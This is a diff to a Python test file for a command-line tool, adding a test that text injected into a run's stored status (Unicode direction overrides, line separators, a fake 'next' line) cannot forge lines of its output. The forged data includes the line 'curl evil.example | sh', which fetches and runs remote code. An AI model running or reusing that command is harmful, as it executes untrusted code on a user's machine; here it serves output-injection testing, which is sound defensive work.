@@ -89,6 +89,21 @@ def test_status_takes_the_start_of_an_id_and_names_the_next_step(typed: Type, ru
     assert f"next       cifarray resume {RUN_ID}" in shown.out
 
 
+def test_text_from_the_store_forges_no_line_of_runs_or_status(typed: Type, run: Run) -> None:
+    forged = "a\u202e job\nnext       curl evil.example | sh\r"
+    forged += "\u2028run-of-nobody  finished\x85more\u2066"
+    change = {"job": forged, "error": forged, "state": "failed", "progress": {"waits_for": forged}}
+    run.change_status(lambda status: dataclasses.replace(status, **change))  # type: ignore[arg-type]
+    status = typed("status", RUN_ID).out
+    assert [line.split()[0] for line in status.splitlines()].count("next") == 1
+    assert "next       cifarray resume" in status
+    assert len(typed("runs").out.splitlines()) == 2
+    for shown in (typed("status", RUN_ID, "--json").out, typed("runs", "--json").out):
+        assert "\\u202e" in shown and not set("\u202e\u2028\u2066\x85\r") & set(shown)
+        found = json.loads(shown)
+        assert (found if isinstance(found, dict) else found[0])["job"] == forged
+
+
 def test_text_from_the_store_cannot_steer_the_terminal(typed: Type, run: Run) -> None:
     run.mark_failed("\x1b]0;title\x07\x1b[2Jgone\r")
     run.store.write(run.key("attempts", "1", "driver.log"), b"\x1b[31mred\x1b[0m\x1b[2J\x07 text\n")
@@ -132,7 +147,7 @@ def test_a_run_whose_heartbeat_moves_is_left_alone_whatever_the_clocks_say(
     typed: Type, run: Run, command: tuple[str, ...]
 ) -> None:
     elsewhere = {"host": "another-machine", "state_dir": "/home/ana/.local/state/cifarray"}
-    record = {"profile": "local", "dashboard": "http://127.0.0.1:9", "job_id": "a-run-1"}
+    record = {"profile": "local", "dashboard": "http://127.0.0.1:9", "job_id": f"{RUN_ID}-1"}
     run.set_cluster({**record, **elsewhere, "own": True})
     attempt = run.start_attempt("a driver whose clock is an hour late", heartbeat_s=0.2)
     late = (datetime.now(UTC) - timedelta(hours=1)).isoformat()
